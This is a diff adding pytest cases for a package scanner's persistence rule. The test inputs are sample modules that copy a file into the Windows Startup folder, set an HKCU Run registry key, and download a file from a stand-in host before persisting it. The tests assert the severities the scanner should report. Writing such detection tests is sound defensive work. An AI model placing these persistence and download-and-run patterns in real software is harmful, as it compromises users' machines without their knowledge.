@@ -510,3 +510,52 @@ def test_the_same_function_nobody_calls_at_install_is_not_install_code(tmp_path:
     )
     found = scan(tmp_path / "v", {"pkg-1.0/setup.py": setup, "pkg-1.0/pkg/version.py": version})
     assert worst(found) < Severity.MEDIUM
+
+
+# --- persistence: placed where the system starts it ------------------------------------------
+
+_TO_STARTUP = (
+    "import os, shutil\n"
+    "def persist(src):\n"
+    "    dst = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs',"
+    " 'Startup', 'canary.txt')\n"
+    "    shutil.copy(src, dst)\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("module", "expected"),
+    [
+        (_TO_STARTUP + "persist(__file__)\n", Severity.HIGH),  # at import
+        (_TO_STARTUP, Severity.MEDIUM),  # a function alone: a tool's own start-at-login switch
+        (
+            "import urllib.request\n"
+            + _TO_STARTUP
+            + "urllib.request.urlretrieve('https://canary.invalid/c', 'c')\n"
+            "persist('c')\n",
+            Severity.CRITICAL,
+        ),
+        (
+            "import winreg\nk = winreg.CreateKey(winreg.HKEY_CURRENT_USER, "
+            "r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\n"
+            "winreg.SetValueEx(k, 'canary', 0, winreg.REG_SZ, 'canary.txt')\n",
+            Severity.HIGH,
+        ),
+    ],
+)
+def test_something_placed_where_the_system_starts_it_is_persistence(
+    tmp_path: Path, module: str, expected: Severity
+) -> None:
+    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
+    assert worst(found, "code-persistence") is expected, found
+
+
+def test_start_up_places_named_in_prose_are_not_persistence(tmp_path: Path) -> None:
+    module = (
+        '"""Put a shortcut in shell:startup (or Programs\\\\Startup) to start the tool at login."""\n'
+        "HELP = 'see crontab(5) and ~/.config/autostart'\n"
+        "def path_of(name):\n    return name.upper()\n"
+    )
+    assert not [
+        f for f in scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module}) if f.rule == "code-persistence"
+    ]
